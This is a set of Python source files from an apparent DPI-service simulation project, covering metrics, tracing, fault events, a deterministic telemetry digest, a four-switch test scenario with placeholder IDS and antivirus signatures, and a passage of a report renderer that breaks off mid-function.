            "fault_events_total", kind=kind, phase=phase
        ).inc()
        return event

    @classmethod
    def for_simulator(cls, simulator, **kwargs) -> "TelemetryHub":
        """A hub timestamped by *simulator*'s clock, attached to it so the
        data plane (hosts, switches, links) records into it too."""
        hub = cls(clock=lambda: simulator.now, **kwargs)
        simulator.attach_telemetry(hub)
        return hub
