"""The one typed telemetry accessor: :class:`TelemetrySnapshot`.

Historically three ad-hoc dict surfaces grew side by side —
``DPIController.collect_telemetry()`` (per-instance scan counters),
``StressMonitor.baselines`` (calibrated ns/byte), and
``MetricsRegistry.snapshot()`` (every counter/gauge/histogram).  Fault
events (PR 4) would have been a fourth.  ``build_snapshot(controller)``
folds all of them into one frozen :class:`TelemetrySnapshot`, reachable as
``controller.telemetry_snapshot()``; the legacy accessors survive as
deprecation shims over it.

:class:`FaultEvent` also lives here: it is the record type
:meth:`~repro.telemetry.TelemetryHub.record_fault` appends for every
injected fault and every detection/recovery transition, so a snapshot
carries the full fault history alongside the metrics it explains.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Mapping

from repro.telemetry.registry import RegistrySnapshot

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.core.controller import DPIController
    from repro.core.instance import InstanceTelemetrySnapshot

__all__ = ["FaultEvent", "TelemetrySnapshot", "build_snapshot"]


@dataclass(frozen=True)
class FaultEvent:
    """One fault-related transition on the telemetry timeline.

    ``phase`` distinguishes the lifecycle of a fault: ``inject`` (the
    fault plan fired), ``detect`` (heartbeat monitor noticed), ``recover``
    (failover / degradation / reattach completed).  ``kind`` names the
    fault or recovery action (``instance_crash``, ``link_down``,
    ``failover``, ``degrade``, ``reattach``, ...) and ``target`` the
    instance, link or chain affected.
    """

    time: float
    kind: str
    target: str
    phase: str = "inject"
    detail: str = ""

    def as_dict(self) -> dict[str, Any]:
        """A JSON-friendly copy (the JSONL exporter's event body)."""
        return {
            "time": self.time,
            "kind": self.kind,
            "target": self.target,
            "phase": self.phase,
            "detail": self.detail,
        }


@dataclass(frozen=True)
class TelemetrySnapshot:
    """Everything the controller knows about the system at one instant."""

    #: hub-clock timestamp the snapshot was taken at
    ts: float
    #: per-instance scan counters (``collect_telemetry``'s old payload)
    instances: Mapping[str, "InstanceTelemetrySnapshot"]
    #: per-instance liveness (False while crashed)
    alive: Mapping[str, bool]
    #: MCA² calibrated ns/byte baselines (empty without a stress monitor)
    baselines: Mapping[str, float]
    #: the full metrics registry (``MetricsRegistry.snapshot()``'s payload)
    metrics: RegistrySnapshot
    #: every fault event recorded so far, in injection order
    faults: tuple[FaultEvent, ...] = field(default_factory=tuple)


def build_snapshot(controller: "DPIController") -> TelemetrySnapshot:
    """The controller's unified telemetry view, frozen at the hub clock."""
    hub = controller.telemetry
    monitor = getattr(controller, "stress_monitor", None)
    baselines = dict(monitor._baselines) if monitor is not None else {}
    return TelemetrySnapshot(
        ts=hub.now(),
        instances={
            name: instance.telemetry.snapshot()
            for name, instance in controller.instances.items()
        },
        alive={
            name: instance.alive
            for name, instance in controller.instances.items()
        },
        baselines=baselines,
        metrics=hub.registry.snapshot(),
        faults=tuple(hub.faults),
    )
