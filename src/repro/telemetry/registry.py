"""Metrics registry: counters, gauges, fixed-bucket histograms, windows.

Every metric is identified by a name plus a sorted label set (Prometheus
style).  The registry is clock-aware: it timestamps snapshots with whatever
clock it was built with — the discrete-event simulator's clock inside a
simulation, a wall clock for bare scans (see
:class:`~repro.telemetry.TelemetryHub`).

Counters are monotonic; consumers that need per-window rates hold a
:class:`MetricsWindow` and call :meth:`MetricsWindow.delta`, which returns
the counter increments since the previous call.  Windows are independent —
the stress monitor, the deployment planner and a report exporter can each
advance their own window without disturbing the others.
"""

from __future__ import annotations

import time
from bisect import bisect_left
from typing import Any, Callable, Iterable, Sequence, TypedDict

#: Default histogram bucket upper bounds (seconds), tuned for per-packet
#: scan latencies: one microsecond up to one second.
DEFAULT_LATENCY_BUCKETS = (
    1e-6, 5e-6, 1e-5, 5e-5, 1e-4, 5e-4, 1e-3, 5e-3, 1e-2, 5e-2, 0.1, 0.5, 1.0,
)

#: A metric's identity: ``(name, sorted label items)``.
LabelKey = tuple[tuple[str, Any], ...]
MetricKey = tuple[str, LabelKey]

#: Any concrete metric type (written ``Counter | Gauge | Histogram`` once
#: the classes exist; a string alias keeps the forward reference readable).
Metric = "Counter | Gauge | Histogram"


class MetricPayload(TypedDict, total=False):
    """One metric's plain-dict rendering (the JSONL exporter's row shape).

    ``value`` is present for counters and gauges; ``sum``/``count``/
    ``buckets`` for histograms.  ``kind``, ``name`` and ``labels`` are
    always present.
    """

    kind: str
    name: str
    labels: dict[str, Any]
    value: float
    sum: float
    count: int
    buckets: list[list[Any]]


class RegistrySnapshot(TypedDict):
    """:meth:`MetricsRegistry.snapshot`'s shape: a timestamped collection."""

    ts: float
    metrics: list[MetricPayload]


def _label_key(labels: dict[str, Any]) -> LabelKey:
    return tuple(sorted(labels.items()))


class Counter:
    """A monotonically increasing value."""

    __slots__ = ("name", "labels", "value")
    kind = "counter"

    def __init__(self, name: str, labels: dict[str, Any]) -> None:
        self.name = name
        self.labels = labels
        self.value: float = 0

    def inc(self, amount: float = 1) -> None:
        """Add *amount* (must be >= 0 to stay monotonic)."""
        self.value += amount

    def as_dict(self) -> MetricPayload:
        """A plain-dict rendering (for the JSONL exporter)."""
        return {
            "kind": self.kind,
            "name": self.name,
            "labels": dict(self.labels),
            "value": self.value,
        }


class Gauge:
    """A value that can go up and down; optionally callback-backed.

    A callback gauge reads its value lazily at collection time — used for
    quantities that already live elsewhere (flow-table sizes, scan-cache
    counters) so the hot path pays nothing to keep them current.
    """

    __slots__ = ("name", "labels", "_value", "callback")
    kind = "gauge"

    def __init__(self, name: str, labels: dict[str, Any]) -> None:
        self.name = name
        self.labels = labels
        self._value: float = 0
        self.callback: "Callable[[], float] | None" = None

    def set(self, value: float) -> None:
        """Set the gauge (ignored while a callback is bound)."""
        self._value = value

    def inc(self, amount: float = 1) -> None:
        """Add *amount* to the stored value."""
        self._value += amount

    def dec(self, amount: float = 1) -> None:
        """Subtract *amount* from the stored value."""
        self._value -= amount

    @property
    def value(self) -> float:
        """The current value (evaluates the callback when bound)."""
        if self.callback is not None:
            return self.callback()
        return self._value

    def as_dict(self) -> MetricPayload:
        """A plain-dict rendering (for the JSONL exporter)."""
        return {
            "kind": self.kind,
            "name": self.name,
            "labels": dict(self.labels),
            "value": self.value,
        }


def percentile_from_counts(
    bounds: "Sequence[float]", counts: "Sequence[int]", quantile: float
) -> float:
    """Estimate the value at ``quantile`` from histogram bucket counts.

    ``bounds`` are the finite inclusive upper bounds and ``counts`` the
    per-bucket (non-cumulative) counts, one longer than ``bounds`` with the
    +Inf overflow bucket last — exactly the :class:`Histogram` layout.  This
    also works on *deltas* of ``bucket_counts`` between two snapshots, which
    is how the autoscaler computes a windowed p99 without resetting the
    histogram.  Interpolates linearly inside the winning bucket; overflow
    observations clamp to the largest finite bound.  Returns 0.0 when there
    are no observations.
    """
    if not 0.0 < quantile <= 1.0:
        raise ValueError(f"quantile must be in (0, 1]: {quantile}")
    if len(counts) != len(bounds) + 1:
        raise ValueError(
            f"expected {len(bounds) + 1} bucket counts, got {len(counts)}"
        )
    total = sum(counts)
    if total <= 0:
        return 0.0
    rank = quantile * total
    cumulative = 0
    for index, bucket_count in enumerate(counts):
        if bucket_count <= 0:
            continue
        if cumulative + bucket_count >= rank:
            if index >= len(bounds):  # +Inf overflow: clamp to last bound
                return bounds[-1] if bounds else 0.0
            lower = bounds[index - 1] if index else 0.0
            upper = bounds[index]
            fraction = (rank - cumulative) / bucket_count
            return lower + (upper - lower) * fraction
        cumulative += bucket_count
    return bounds[-1] if bounds else 0.0


class Histogram:
    """Fixed-bucket histogram: per-bucket counts plus sum and count.

    ``bounds`` are inclusive upper bounds; one implicit +Inf bucket catches
    the overflow.  ``observe`` is a bisect plus three attribute updates, so
    it is cheap enough for the per-packet scan path.
    """

    __slots__ = ("name", "labels", "bounds", "bucket_counts", "sum", "count")
    kind = "histogram"

    def __init__(
        self,
        name: str,
        labels: dict[str, Any],
        bounds: "Iterable[float] | None" = None,
    ) -> None:
        self.name = name
        self.labels = labels
        self.bounds = tuple(bounds) if bounds is not None else DEFAULT_LATENCY_BUCKETS
        if list(self.bounds) != sorted(self.bounds):
            raise ValueError(f"histogram bounds must be sorted: {self.bounds}")
        self.bucket_counts = [0] * (len(self.bounds) + 1)
        self.sum = 0.0
        self.count = 0

    def observe(self, value: float) -> None:
        """Record one observation."""
        self.bucket_counts[bisect_left(self.bounds, value)] += 1
        self.sum += value
        self.count += 1

    @property
    def mean(self) -> float:
        """Average observed value (0.0 before any observation)."""
        return self.sum / self.count if self.count else 0.0

    def percentile(self, quantile: float) -> float:
        """Estimated value at ``quantile`` (0 < q <= 1) from the buckets.

        Linear interpolation inside the winning bucket; observations that
        landed in the +Inf overflow bucket clamp to the largest finite
        bound (the histogram cannot see past it).  Returns 0.0 before any
        observation.
        """
        return percentile_from_counts(self.bounds, self.bucket_counts, quantile)

    def percentiles(
        self, quantiles: "Iterable[float]" = (0.50, 0.95, 0.99)
    ) -> dict[float, float]:
        """``{quantile: estimated value}`` for each requested quantile."""
        return {q: self.percentile(q) for q in quantiles}

    def cumulative_buckets(self) -> list[tuple[float, int]]:
        """``(upper bound, cumulative count)`` pairs, +Inf last."""
        cumulative = 0
        rendered: list[tuple[float, int]] = []
        for bound, bucket_count in zip(self.bounds, self.bucket_counts):
            cumulative += bucket_count
            rendered.append((bound, cumulative))
        rendered.append((float("inf"), cumulative + self.bucket_counts[-1]))
        return rendered

    def as_dict(self) -> MetricPayload:
        """A plain-dict rendering (for the JSONL exporter)."""
        return {
            "kind": self.kind,
            "name": self.name,
            "labels": dict(self.labels),
            "sum": self.sum,
            "count": self.count,
            "buckets": [
                [bound if bound != float("inf") else "+Inf", cumulative]
                for bound, cumulative in self.cumulative_buckets()
            ],
        }


class MetricsRegistry:
    """Named, labeled metrics with get-or-create accessors."""

    def __init__(self, clock: "Callable[[], float] | None" = None) -> None:
        self._clock = clock if clock is not None else time.monotonic
        self._metrics: "dict[MetricKey, Counter | Gauge | Histogram]" = {}
        self._kinds: dict[str, str] = {}

    def now(self) -> float:
        """The registry clock's current time."""
        return self._clock()

    def _get_or_create(self, factory, kind: str, name: str, labels: dict, **kw):
        key = (name, _label_key(labels))
        metric = self._metrics.get(key)
        if metric is not None:
            if self._kinds[name] != kind:
                raise TypeError(
                    f"metric {name!r} is a {self._kinds[name]}, not a {kind}"
                )
            return metric
        registered = self._kinds.setdefault(name, kind)
        if registered != kind:
            raise TypeError(f"metric {name!r} is a {registered}, not a {kind}")
        metric = factory(name, labels, **kw)
        self._metrics[key] = metric
        return metric

    def counter(self, name: str, **labels) -> Counter:
        """Get or create a counter."""
        return self._get_or_create(Counter, "counter", name, labels)

    def gauge(self, name: str, **labels) -> Gauge:
        """Get or create a gauge."""
        return self._get_or_create(Gauge, "gauge", name, labels)

    def gauge_callback(
        self, name: str, callback: Callable[[], float], **labels
    ) -> Gauge:
        """Get or create a gauge and (re)bind its value callback."""
        gauge = self.gauge(name, **labels)
        gauge.callback = callback
        return gauge

    def histogram(
        self, name: str, buckets: "Iterable[float] | None" = None, **labels
    ) -> Histogram:
        """Get or create a fixed-bucket histogram."""
        return self._get_or_create(
            Histogram, "histogram", name, labels, bounds=buckets
        )

    # --- queries ----------------------------------------------------------

    def get(self, name: str, **labels) -> "Counter | Gauge | Histogram | None":
        """The metric at (name, labels), or None."""
        return self._metrics.get((name, _label_key(labels)))

    def value(self, name: str, default: float = 0, **labels) -> float:
        """A counter/gauge value, or *default* when absent."""
        metric = self.get(name, **labels)
        return default if metric is None else metric.value

    def collect(self) -> "list[Counter | Gauge | Histogram]":
        """Every metric, sorted by (name, labels) for stable output."""
        return [self._metrics[key] for key in sorted(self._metrics)]

    def collect_named(self, name: str) -> "list[Counter | Gauge | Histogram]":
        """Every label variant of one metric name, sorted by labels."""
        return [
            self._metrics[key] for key in sorted(self._metrics) if key[0] == name
        ]

    def snapshot(self) -> RegistrySnapshot:
        """All current values, timestamped by the registry clock."""
        return {
            "ts": self.now(),
            "metrics": [metric.as_dict() for metric in self.collect()],
        }

    def window(
        self,
        names: "Iterable[str] | None" = None,
        zero_baseline: bool = False,
    ) -> "MetricsWindow":
        """A new delta window over the counters named in *names* (None =
        every counter).  ``zero_baseline`` makes the first delta cover
        everything accumulated so far instead of starting from now."""
        return MetricsWindow(self, names=names, zero_baseline=zero_baseline)

    def drop(self, **labels) -> int:
        """Remove every metric whose label set includes *labels* (used when
        a DPI instance is torn down).  Returns how many were removed."""
        required = set(labels.items())
        doomed = [
            key
            for key, metric in self._metrics.items()
            if required <= set(metric.labels.items())
        ]
        for key in doomed:
            del self._metrics[key]
        return len(doomed)


class WindowDelta(dict):
    """Counter increments over one window, keyed by (name, label items)."""

    def value(self, name: str, default: float = 0, **labels) -> float:
        """The delta for one labeled counter, or *default*."""
        return self.get((name, _label_key(labels)), default)


class MetricsWindow:
    """Tracks counter deltas between successive :meth:`delta` calls.

    The window baseline starts at the counters' values when the window is
    created; counters born later enter with an implicit baseline of zero.
    """

    def __init__(
        self,
        registry: MetricsRegistry,
        names: "Iterable[str] | None" = None,
        zero_baseline: bool = False,
    ) -> None:
        self._registry = registry
        self._names = frozenset(names) if names is not None else None
        self._last: dict[MetricKey, float] = {}
        if not zero_baseline:
            self._last = self._capture()

    def _capture(self) -> dict[MetricKey, float]:
        captured: dict[MetricKey, float] = {}
        names = self._names
        for key, metric in self._registry._metrics.items():
            if metric.kind != "counter":
                continue
            if names is not None and key[0] not in names:
                continue
            captured[key] = metric.value
        return captured

    def delta(self) -> WindowDelta:
        """Counter increments since the previous call (which this advances)."""
        current = self._capture()
        last = self._last
        self._last = current
        return WindowDelta(
            (key, value - last.get(key, 0)) for key, value in current.items()
        )
