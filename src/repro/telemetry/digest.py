"""A deterministic fingerprint of a telemetry hub's observable state.

``deterministic_digest`` hashes everything a run records that is a pure
function of the workload — metric values, trace spans, the fault timeline —
while excluding the few quantities that depend on the wall clock rather
than the simulator clock: any metric whose name carries a ``seconds`` or
``latency`` component (scan-time counters, latency histograms, shard
merge-time histograms) and span attributes with a ``_seconds`` suffix
(``elapsed_seconds`` on inspect spans).  Two same-seed runs of a scenario
must produce identical digests; the determinism regression tests are
written against exactly this function.
"""

from __future__ import annotations

import hashlib
import json

#: A metric name containing any of these tokens is wall-clock-derived and
#: excluded from the digest (token match on ``_``-separated name parts).
TIMING_TOKENS = frozenset({"seconds", "latency"})

#: Tokens naming execution-backend internals (arena occupancy, descriptor
#: queues, copy-avoidance accounting).  These describe *how* a scan ran,
#: not what the workload produced — backend choice must not move the
#: digest, exactly like wall-clock timings.
BACKEND_TOKENS = frozenset({"arena", "descriptor", "copy"})

_EXCLUDED_TOKENS = TIMING_TOKENS | BACKEND_TOKENS


def _is_excluded_metric(name: str, excluded: frozenset) -> bool:
    return not excluded.isdisjoint(name.split("_"))


def _clean_attributes(attributes: dict) -> dict:
    return {
        key: value
        for key, value in attributes.items()
        if not key.endswith("_seconds")
    }


def digest_material(hub, *, extra_exclude_tokens=frozenset()) -> dict:
    """The JSON-friendly material the digest is computed over.

    ``extra_exclude_tokens`` widens the exclusion set for comparisons that
    must hold across *structurally* different engines — the adversarial
    differential harness drops ``shard``-token metrics so a monolithic and
    a sharded leg can be compared on what the workload produced.
    """
    excluded = _EXCLUDED_TOKENS | frozenset(extra_exclude_tokens)
    metrics = []
    for metric in hub.registry.collect():
        payload = dict(metric.as_dict())
        if _is_excluded_metric(payload["name"], excluded):
            continue
        metrics.append(payload)
    spans = []
    if hub.tracer is not None:
        # Packet ids are process-global counters, so two same-seed runs in
        # one process see different absolute values; renumber them by first
        # appearance (identity across spans is what matters, not the value).
        packet_index: dict = {}
        for span in hub.tracer.spans:
            payload = span.as_dict()
            attributes = _clean_attributes(payload["attributes"])
            packet_id = attributes.get("packet_id")
            if packet_id is not None:
                attributes["packet_id"] = packet_index.setdefault(
                    packet_id, len(packet_index)
                )
            payload["attributes"] = attributes
            spans.append(payload)
    faults = [event.as_dict() for event in hub.faults]
    return {"metrics": metrics, "spans": spans, "faults": faults}


def deterministic_digest(hub, *, extra_exclude_tokens=frozenset()) -> str:
    """SHA-256 over the hub's workload-determined telemetry."""
    payload = json.dumps(
        digest_material(hub, extra_exclude_tokens=extra_exclude_tokens),
        sort_keys=True,
        default=str,
    ).encode("utf-8")
    return hashlib.sha256(payload).hexdigest()
