"""Structured tracing: spans that follow a packet end-to-end.

A packet's journey produces one *trace*: a ``steer`` root span when its
origin host first transmits it, a ``hop`` span at every switch, an
``inspect`` span at the DPI service instance (kernel, cache hit/miss, bytes,
matches), and a ``deliver`` span at each receiving host — including the
middlebox hosts that consume the result packet, which shares the data
packet's trace context.

The trace context travels on the packet itself (``Packet.trace``, a
``(trace id, span id)`` tuple preserved across switch copies and inherited
by result packets), so no global correlation state is needed.  Span ids are
sequential, which keeps traces fully deterministic under the simulator.
"""

from __future__ import annotations

import itertools
import time
from collections import deque
from dataclasses import dataclass, field

#: Default bound on retained spans; old spans fall off the left end.
DEFAULT_MAX_SPANS = 10_000


@dataclass
class TraceSpan:
    """One operation within a trace."""

    name: str
    trace_id: int
    span_id: int
    parent_id: int | None
    start: float
    end: float | None = None
    attributes: dict = field(default_factory=dict)

    @property
    def context(self) -> tuple:
        """The ``(trace id, span id)`` tuple children parent themselves to."""
        return (self.trace_id, self.span_id)

    @property
    def duration(self) -> float | None:
        """Span duration, or None while unfinished."""
        return None if self.end is None else self.end - self.start

    def finish(self, at: float) -> None:
        """Close the span at time *at*."""
        self.end = at

    def as_dict(self) -> dict:
        """A plain-dict rendering (for the JSONL exporter)."""
        return {
            "name": self.name,
            "trace_id": self.trace_id,
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "start": self.start,
            "end": self.end,
            "attributes": dict(self.attributes),
        }


def _parent_context(parent) -> tuple:
    """Normalize a parent (TraceSpan, (trace, span) tuple, or None)."""
    if parent is None:
        return (None, None)
    if isinstance(parent, TraceSpan):
        return (parent.trace_id, parent.span_id)
    trace_id, span_id = parent
    return (trace_id, span_id)


class Tracer:
    """Creates and retains spans, bounded by *max_spans*."""

    def __init__(self, clock=None, max_spans: int = DEFAULT_MAX_SPANS) -> None:
        self._clock = clock if clock is not None else time.monotonic
        self._ids = itertools.count(1)
        self.spans: deque = deque(maxlen=max_spans)

    def now(self) -> float:
        """The tracer clock's current time."""
        return self._clock()

    def start_span(self, name: str, parent=None, at=None, **attributes) -> TraceSpan:
        """Open a span (a new root trace when *parent* is None)."""
        trace_id, parent_id = _parent_context(parent)
        span_id = next(self._ids)
        if trace_id is None:
            trace_id = span_id
        span = TraceSpan(
            name=name,
            trace_id=trace_id,
            span_id=span_id,
            parent_id=parent_id,
            start=self.now() if at is None else at,
            attributes=attributes,
        )
        self.spans.append(span)
        return span

    def record(
        self, name: str, parent=None, start=None, end=None, **attributes
    ) -> TraceSpan:
        """Record an already-finished span (point events on the hot path)."""
        span = self.start_span(name, parent=parent, at=start, **attributes)
        span.end = span.start if end is None else end
        return span

    # --- queries ----------------------------------------------------------

    def spans_named(self, name: str) -> list:
        """Every retained span with this name, in recording order."""
        return [span for span in self.spans if span.name == name]

    def trace(self, trace_id: int) -> list:
        """Every retained span of one trace, in recording order."""
        return [span for span in self.spans if span.trace_id == trace_id]

    def trace_ids(self) -> list:
        """Distinct trace ids among retained spans, in first-seen order."""
        seen: dict = {}
        for span in self.spans:
            seen.setdefault(span.trace_id, None)
        return list(seen)

    def children_of(self, span: TraceSpan) -> list:
        """The retained spans whose parent is *span*."""
        return [
            candidate
            for candidate in self.spans
            if candidate.trace_id == span.trace_id
            and candidate.parent_id == span.span_id
        ]

    def tree(self, trace_id: int) -> dict | None:
        """The trace as a nested ``{"span": ..., "children": [...]}`` dict,
        or None when the trace has no root among retained spans."""
        spans = self.trace(trace_id)
        by_id = {span.span_id: {"span": span, "children": []} for span in spans}
        root = None
        for span in spans:
            node = by_id[span.span_id]
            parent = by_id.get(span.parent_id)
            if parent is not None:
                parent["children"].append(node)
            elif span.parent_id is None:
                root = node
        return root
