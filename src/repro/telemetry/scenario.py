"""A self-contained figure-5 simulation wired for telemetry.

``run_figure5_scenario`` builds the paper's Figure 5 system — four switches,
two policy chains sharing one DPI service instance — attaches a simulator-
clocked :class:`~repro.telemetry.TelemetryHub`, pushes a deterministic mix
of clean and signature-bearing traffic through it, and returns everything a
caller needs to inspect the result.  It backs the ``repro-dpi report`` CLI
command, the end-to-end telemetry tests and the CI smoke job.

The traffic shaper from the original figure is deliberately left out: its
stopping condition truncates scans, and the scenario is also used to check
that bytes scanned by the DPI service equal the payload bytes the source
hosts originated.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.core.controller import DPIController
from repro.core.instance import DPIServiceFunction
from repro.middleboxes.antivirus import AntiVirus
from repro.middleboxes.base import MiddleboxChainFunction
from repro.middleboxes.firewall import L2L4Firewall, L2L4FirewallFunction
from repro.middleboxes.ids import IntrusionDetectionSystem
from repro.net.controller import SDNController
from repro.net.packet import make_tcp_packet
from repro.net.steering import (
    PolicyChain,
    TrafficAssignment,
    TrafficSteeringApplication,
)
from repro.net.topology import Topology
from repro.telemetry import TelemetryHub

IDS1_SIG = b"chain-one-threat"
IDS2_SIG = b"chain-two-threat"
AV_SIG = b"chain-two-virus!"


@dataclass
class ScenarioResult:
    """Everything the scenario produced, for reporting and assertions."""

    hub: TelemetryHub | None
    topology: Topology
    dpi_controller: DPIController
    tsa: TrafficSteeringApplication
    instance: object
    middleboxes: dict
    packets_sent: int
    payload_bytes_sent: int


@dataclass
class Figure5System:
    """The wired-up Figure 5 system, before any traffic is pushed.

    ``middlebox_functions`` maps host name to the installed
    :class:`~repro.middleboxes.base.MiddleboxChainFunction` (the handles
    the fault-recovery layer uses to degrade/restore middleboxes).
    """

    hub: TelemetryHub | None
    topology: Topology
    dpi_controller: DPIController
    tsa: TrafficSteeringApplication
    instance: object
    dpi_function: object
    middleboxes: dict
    middlebox_functions: dict


def _build_payload(rng: random.Random, chain: str) -> bytes:
    """A deterministic payload; roughly one in four carries a signature."""
    head = rng.randbytes(rng.randint(200, 700))
    tail = rng.randbytes(rng.randint(100, 500))
    roll = rng.random()
    if roll < 0.25:
        if chain == "chain1":
            signature = IDS1_SIG
        else:
            signature = IDS2_SIG if roll < 0.15 else AV_SIG
        return head + signature + tail
    return head + tail


def build_figure5_system(
    kernel: str = "flat",
    scan_cache_size: int = 0,
    telemetry: bool = True,
    tracing: bool = True,
    extra_hosts: "dict[str, str] | None" = None,
    shards: int = 0,
    shard_backend: str = "serial",
    shard_kernel: str = "flat",
    shard_workers: int = 0,
    shard_pipelined: bool = False,
) -> Figure5System:
    """Wire up the Figure 5 system without sending any traffic.

    ``extra_hosts`` maps additional host names to the switch they hang off
    — the chaos harness uses this for standby DPI hosts that failover can
    later provision onto.
    """
    topo = Topology()
    hub = None
    if telemetry:
        hub = TelemetryHub.for_simulator(topo.simulator, tracing=tracing)

    for switch in ("s1", "s2", "s3", "s4"):
        topo.add_switch(switch)
    topo.add_link("s1", "s2")
    topo.add_link("s2", "s3")
    topo.add_link("s3", "s4")
    topo.add_link("s1", "s3")
    placements = {
        "src1": "s1", "dst1": "s4",
        "src2": "s1", "dst2": "s4",
        "l2l4_fw": "s3", "ids1": "s3",
        "ids2": "s4", "av1": "s2",
        "dpi3": "s2",
    }
    placements.update(extra_hosts or {})
    for host, switch in placements.items():
        topo.add_host(host)
        topo.add_link(switch, host)

    sdn = SDNController(topo, learning=False)
    tsa = TrafficSteeringApplication(sdn, topo)

    ids1 = IntrusionDetectionSystem(middlebox_id=1, name="ids1")
    ids1.add_signature(0, IDS1_SIG)
    ids2 = IntrusionDetectionSystem(middlebox_id=2, name="ids2")
    ids2.add_signature(0, IDS2_SIG)
    av1 = AntiVirus(middlebox_id=3, name="av1")
    av1.add_signature(0, AV_SIG)
    firewall = L2L4Firewall()

    dpi_controller = DPIController(telemetry=hub)
    for middlebox in (ids1, ids2, av1):
        middlebox.register_with(dpi_controller)

    tsa.register_middlebox_instance("l2l4_fw", "l2l4_fw")
    tsa.register_middlebox_instance("ids1", "ids1")
    tsa.register_middlebox_instance("ids2", "ids2")
    tsa.register_middlebox_instance("av1", "av1")
    tsa.register_middlebox_instance("dpi", "dpi3")

    tsa.add_policy_chain(PolicyChain("chain1", ("l2l4_fw", "ids1")))
    tsa.add_policy_chain(PolicyChain("chain2", ("ids2", "av1")))
    dpi_controller.attach_tsa(tsa)
    tsa.assign_traffic(TrafficAssignment("src1", "dst1", "chain1"))
    tsa.assign_traffic(TrafficAssignment("src2", "dst2", "chain2"))
    tsa.realize()

    instance = dpi_controller.instances.provision(
        "dpi3",
        kernel=kernel,
        scan_cache_size=scan_cache_size,
        shards=shards,
        shard_backend=shard_backend,
        shard_kernel=shard_kernel,
        shard_workers=shard_workers,
        shard_pipelined=shard_pipelined,
    )
    dpi_function = DPIServiceFunction(instance)
    topo.hosts["dpi3"].set_function(dpi_function)
    topo.hosts["l2l4_fw"].set_function(L2L4FirewallFunction(firewall))
    chain_functions = {
        "ids1": MiddleboxChainFunction(ids1),
        "ids2": MiddleboxChainFunction(ids2),
        "av1": MiddleboxChainFunction(av1),
    }
    for host_name, function in chain_functions.items():
        topo.hosts[host_name].set_function(function)

    return Figure5System(
        hub=hub,
        topology=topo,
        dpi_controller=dpi_controller,
        tsa=tsa,
        instance=instance,
        dpi_function=dpi_function,
        middleboxes={
            "ids1": ids1, "ids2": ids2, "av1": av1, "firewall": firewall
        },
        middlebox_functions=chain_functions,
    )


def run_figure5_scenario(
    packets: int = 40,
    seed: int = 7,
    kernel: str = "flat",
    scan_cache_size: int = 0,
    telemetry: bool = True,
    tracing: bool = True,
    shards: int = 0,
    shard_backend: str = "serial",
    shard_kernel: str = "flat",
    shard_workers: int = 0,
    shard_pipelined: bool = False,
) -> ScenarioResult:
    """Build the Figure 5 system, run *packets* packets, return the result.

    With ``telemetry=False`` no hub is attached to the simulator and the
    DPI controller keeps its default (wall-clocked, trace-free) hub — the
    data-plane behaviour must be identical either way.
    """
    system = build_figure5_system(
        kernel=kernel,
        scan_cache_size=scan_cache_size,
        telemetry=telemetry,
        tracing=tracing,
        shards=shards,
        shard_backend=shard_backend,
        shard_kernel=shard_kernel,
        shard_workers=shard_workers,
        shard_pipelined=shard_pipelined,
    )
    topo = system.topology
    hub = system.hub
    dpi_controller = system.dpi_controller
    tsa = system.tsa
    instance = system.instance

    rng = random.Random(seed)
    payload_bytes_sent = 0
    for index in range(packets):
        chain = "chain1" if index % 2 == 0 else "chain2"
        src = topo.hosts["src1" if chain == "chain1" else "src2"]
        dst = topo.hosts["dst1" if chain == "chain1" else "dst2"]
        payload = _build_payload(rng, chain)
        packet = make_tcp_packet(
            src.mac, dst.mac, src.ip, dst.ip,
            40000 + index % 8, 80, payload=payload,
        )
        payload_bytes_sent += len(payload)
        src.send(packet)
        topo.run()

    return ScenarioResult(
        hub=hub,
        topology=topo,
        dpi_controller=dpi_controller,
        tsa=tsa,
        instance=instance,
        middleboxes=system.middleboxes,
        packets_sent=packets,
        payload_bytes_sent=payload_bytes_sent,
    )
