"""Plain-text telemetry summary (the ``repro-dpi report`` renderer).

Rendering reads the registry only through public accessors, so any
combination of producers works — a full simulation, a bare-instance scan
run, or a hand-built registry in a test.
"""

from __future__ import annotations


def _table(headers: list, rows: list) -> list:
    """Align *rows* under *headers*; returns the rendered lines."""
    cells = [headers] + [[str(value) for value in row] for row in rows]
    widths = [max(len(row[i]) for row in cells) for i in range(len(headers))]
    lines = []
    for index, row in enumerate(cells):
        lines.append("  ".join(value.ljust(width) for value, width in zip(row, widths)).rstrip())
        if index == 0:
            lines.append("  ".join("-" * width for width in widths))
    return lines


def _label_values(registry, metric_name: str, label: str) -> list:
    """Distinct values of one label across a metric's variants, sorted."""
    values = {
        metric.labels.get(label)
        for metric in registry.collect_named(metric_name)
        if label in metric.labels
    }
    return sorted(values)


def _instance_rows(registry) -> list:
    rows = []
    for name in _label_values(registry, "dpi_packets_scanned_total", "instance"):
        packets = registry.value("dpi_packets_scanned_total", instance=name)
        scanned = registry.value("dpi_bytes_scanned_total", instance=name)
        matches = registry.value("dpi_matches_total", instance=name)
        seconds = registry.value("dpi_scan_seconds_total", instance=name)
        ns_per_byte = seconds * 1e9 / scanned if scanned else 0.0
        latency = registry.get("dpi_scan_latency_seconds", instance=name)
        mean_us = latency.mean * 1e6 if latency is not None else 0.0
        if latency is not None:
            quantiles = latency.percentiles((0.50, 0.95, 0.99))
            p50_us = quantiles[0.50] * 1e6
            p95_us = quantiles[0.95] * 1e6
            p99_us = quantiles[0.99] * 1e6
        else:
            p50_us = p95_us = p99_us = 0.0
        cache_hits = registry.value("dpi_scan_cache_hits", default=None, instance=name)
        if cache_hits is None:
            cache = "off"
        else:
            cache_misses = registry.value("dpi_scan_cache_misses", instance=name)
            lookups = cache_hits + cache_misses
            rate = 100.0 * cache_hits / lookups if lookups else 0.0
            evictions = registry.value("dpi_scan_cache_evictions", instance=name)
            cache = f"{rate:.0f}% hit ({evictions} evicted)"
        rows.append(
            (
                name,
                packets,
                scanned,
                matches,
                f"{ns_per_byte:.0f}",
                f"{mean_us:.1f}",
                f"{p50_us:.1f}",
                f"{p95_us:.1f}",
                f"{p99_us:.1f}",
                registry.value("dpi_active_flows", instance=name),
                cache,
            )
        )
    return rows


def _chain_rows(registry) -> list:
    rows = []
    for metric in registry.collect_named("dpi_chain_packets_total"):
        instance = metric.labels.get("instance", "")
        chain = metric.labels.get("chain", "")
